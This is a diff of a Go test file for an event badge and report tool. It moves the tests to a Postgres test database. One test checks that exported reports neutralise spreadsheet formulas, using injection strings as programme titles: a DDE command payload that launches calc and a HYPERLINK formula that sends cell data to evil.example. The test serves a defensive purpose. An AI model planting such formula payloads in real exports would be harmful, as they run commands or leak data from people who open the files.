@@ -11,6 +11,7 @@ import (
 
 	"accred/data"
 	"accred/data/atomicfile/atomicfiletest"
+	"accred/data/pgtest"
 )
 
 // printedCount is how many badges the database holds as printed.
@@ -29,7 +30,7 @@ func printedCount(t *testing.T, db string) int {
 
 func TestBadgesNeverOverwriteAFile(t *testing.T) {
 	dir := t.TempDir()
-	db := filepath.Join(dir, "demo.db")
+	db := pgtest.EventDB(t)
 	run(t, db, "demo", "--participants", "40")
 	out := filepath.Join(dir, "badges.pdf")
 	if code, _, errs := run(t, db, "badges", "--out", out); code != 0 {
@@ -59,7 +60,7 @@ func TestBadgesNeverOverwriteAFile(t *testing.T) {
 
 func TestReportsNeutraliseFormulasAndStayPrivate(t *testing.T) {
 	dir := t.TempDir()
-	db := filepath.Join(dir, "demo.db")
+	db := pgtest.EventDB(t)
 	run(t, db, "demo", "--participants", "20")
 	titles := []string{"=cmd|' /C calc'!A0", `=HYPERLINK("http://evil.example/?"&A1,"Minutes")`, "+1 Side event", "-Press", "@Lunch"}
 	programme := [][]string{{"code", "title", "kind", "room", "starts_at", "ends_at"}}
@@ -116,7 +117,7 @@ func TestReportsNeutraliseFormulasAndStayPrivate(t *testing.T) {
 
 func TestSplitRunRefusedWhenAPartExists(t *testing.T) {
 	dir := t.TempDir()
-	db := filepath.Join(dir, "demo.db")
+	db := pgtest.EventDB(t)
 	run(t, db, "demo", "--participants", "5600")
 	before := printedCount(t, db)
 	os.WriteFile(filepath.Join(dir, "run-2.pdf"), []byte("5,000 printed badges"), 0o600)
@@ -124,7 +125,7 @@ func TestSplitRunRefusedWhenAPartExists(t *testing.T) {
 	if code != 1 || !strings.Contains(errs, "run-2.pdf already exists") || !strings.Contains(errs, "run (2).pdf") {
 		t.Fatalf("a split run over an existing part: %d %q", code, errs)
 	}
-	if entries, _ := os.ReadDir(dir); len(entries) != 2 {
+	if entries, _ := os.ReadDir(dir); len(entries) != 1 {
 		t.Fatalf("the refused run wrote %v", entries)
 	}
 	if printedCount(t, db) != before {
